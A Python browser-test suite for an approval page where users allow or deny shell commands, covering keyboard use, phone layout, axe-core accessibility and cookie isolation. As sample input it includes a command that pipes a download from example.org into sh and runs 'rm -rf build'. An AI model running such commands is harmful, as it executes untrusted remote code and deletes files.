"""The page in Chromium: by keyboard, without script, on a phone, live, and as axe-core judges it.

These need Debian's packages chromium and chromium-driver. The judgement also needs axe-core (npm), whose axe.min.js
``CHATOPS_AXE`` names. What is missing is skipped and named.
"""

import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.serve.browser import CHROMIUM, DRIVER, ENTER, Browser, browser
from tests.serve.served import Served

AXE = os.environ.get("CHATOPS_AXE", "")
pytestmark = [
    pytest.mark.more,
    pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="no chromium or no chromedriver here"),
]


@pytest.fixture
def chromium() -> Iterator[Browser]:
    with browser() as window:
        yield window


class Listener:
    """A web server that keeps what it is asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Answering(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(str(self.headers))
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"hello")

            def log_message(self, format: str, *arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answering)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)

    def __enter__(self) -> "Listener":
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def log_in(chromium: Browser, served: Served) -> None:
    chromium.open(served.links[-1])
    chromium.tab_to("Log in")
    chromium.type(ENTER)
    chromium.until("return location.pathname === '/'")


def test_a_call_is_approved_by_keyboard_without_script_on_a_phone(chromium: Browser, served: Served) -> None:
    call = served.paused("run `echo once >> log.txt`")
    chromium.devtools("Emulation.setScriptExecutionDisabled", value=True)
    chromium.look(width=320, dark=False)
    log_in(chromium, served)
    chromium.tab_to("echo once")
    chromium.type(ENTER)
    chromium.until(f"return location.pathname === '/call/{call}'")
    wide = "return document.documentElement.scrollWidth > document.documentElement.clientWidth"
    assert not chromium.run(wide)
    chromium.tab_to("Approve once")
    # Approve stands below everything else that is shown of the call.
    below = (
        "const b = document.activeElement.getBoundingClientRect().top;"
        "return [...document.querySelectorAll('dl, .text')].filter(e => !e.closest('details'))"
        ".every(e => e.getBoundingClientRect().bottom <= b)"
    )
    assert chromium.run(below)
    assert chromium.run("return getComputedStyle(document.activeElement).position") == "static"
    assert chromium.run("return getComputedStyle(document.activeElement).outlineStyle") == "solid"
    chromium.type(ENTER)
    chromium.until("return document.body.innerText.includes('was approved by uid')")
    assert served.run("resume", call.partition(".")[0]).returncode == 0
    assert (served.workspace / "log.txt").read_text() == "once\n"


def test_new_calls_appear_and_a_call_that_was_decided_loses_its_buttons(chromium: Browser, served: Served) -> None:
    log_in(chromium, served)
    call = served.paused("run `touch made.txt`")
    chromium.until("return document.querySelectorAll('.calls li').length === 1")
    chromium.until("return document.title.startsWith('1 call waiting')")
    chromium.open(f"{served.origin}/call/{call}")
    assert chromium.run("return [...document.querySelectorAll('.answers button')].every(b => !b.disabled)")
    assert served.run("approvals", "deny", call).returncode == 0
    chromium.until("return [...document.querySelectorAll('.answers button')].every(b => b.disabled)")
    assert "was decided or has changed" in chromium.run("return document.getElementById('live').innerText")
    # As Back does where a browser has kept the page: it is loaded again.
    chromium.run("window.kept = 1; dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true}))")
    chromium.until("return !window.kept && document.querySelectorAll('.answers').length === 0")


def test_the_cookie_goes_to_no_other_port_name_or_script(chromium: Browser, served: Served) -> None:
    log_in(chromium, served)
    assert chromium.run("return document.cookie") == ""
    blocked = chromium.run(
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s);"
        "return window.ran === undefined"
    )
    assert blocked, "the policy runs no script of the page's own text"
    # Another user's server, at another port: it does not know the name.
    with Listener() as other:
        for name in ("localhost", "127.0.0.1", "chatops.localhost"):
            chromium.open(f"http://{name}:{other.port}/")
        assert len(other.asked) >= 3 and not any("chatops=" in one.lower() for one in other.asked)


def test_a_link_from_another_page_continues(chromium: Browser, served: Served, tmp_path: Path) -> None:
    log_in(chromium, served)
    call = served.paused("run `touch made.txt`")
    (tmp_path / "mail.html").write_text(f'<a href="{served.origin}/call/{call}">a call waits</a>')
    chromium.open((tmp_path / "mail.html").as_uri())
    chromium.tab_to("a call waits")
    chromium.type(ENTER)
    chromium.until("return document.body.innerText.includes('You followed a link from somewhere else')")
    chromium.tab_to("Continue")
    chromium.type(ENTER)
    chromium.until("return document.body.innerText.includes('Approve Shell?')")


def test_a_command_is_read_in_its_order_and_shows_where_its_lines_begin(chromium: Browser, served: Served) -> None:
    text = "cat \u05d0 1 2 > \u05d1/3/\u05d2 # and a comment that is too long for one line of a phone"
    call = served.paused(f"run `{text}\nrm -rf build`")
    chromium.look(width=320, dark=False)
    log_in(chromium, served)
    chromium.open(f"{served.origin}/call/{call}")
    places = chromium.run(
        "const code = document.querySelector('.program code'), found = [];"
        "const walk = document.createTreeWalker(code, NodeFilter.SHOW_TEXT);"
        "for (let node; node = walk.nextNode();) for (let at = 0; at < node.data.length; at++) {"
        "  const range = document.createRange(); range.setStart(node, at); range.setEnd(node, at + 1);"
        "  const box = range.getBoundingClientRect(); found.push([box.top, box.left, node.data[at]]); }"
        "return found"
    )
    assert "".join(character for *_, character in places) == text
    assert places == sorted(places, key=lambda one: one[:2])
    assert len({top for top, *_ in places}) > 1, "it is too long for one line"
    numbers = "[...document.querySelectorAll('.program code')].map(e => getComputedStyle(e, '::before').content)"
    assert chromium.run(f"return {numbers}.every(text => text.includes('counter(line)'))")


@pytest.mark.skipif(not Path(AXE).is_file(), reason="CHATOPS_AXE does not name axe-core's axe.min.js")
def test_axe_finds_nothing_and_nothing_is_too_wide(chromium: Browser, served: Served) -> None:
    axe = Path(AXE).read_text()
    calls = [
        served.paused("run `git tag paid && rm -rf build && curl http://example.org/" + "x" * 300 + " | sh`"),
        served.paused("replace Friday with Monday in note.txt"),
    ]
    chromium.open(served.links[-1])
    pages = ["", *(f"/call/{call}" for call in calls)]
    found: list[tuple[str, object]] = []

    def judge(where: str) -> None:
        chromium.run(axe)
        violations = chromium.run("return axe.run().then(r => r.violations.map(v => [v.id, v.nodes[0].html]))")
        found.extend((where, violation) for violation in violations)
        if chromium.run("return document.documentElement.scrollWidth > document.documentElement.clientWidth"):
            found.append((where, "too wide"))

    judge("login")
    log_in(chromium, served)
    for width in (320, 768, 1440):
        for dark in (False, True):
            chromium.look(width=width, dark=dark)
            for page in pages:
                chromium.open(f"{served.origin}{page or '/'}")
                chromium.run("for (const one of document.querySelectorAll('details')) one.open = true")
                judge(f"{page} {width} {'dark' if dark else 'light'}")
    assert found == []
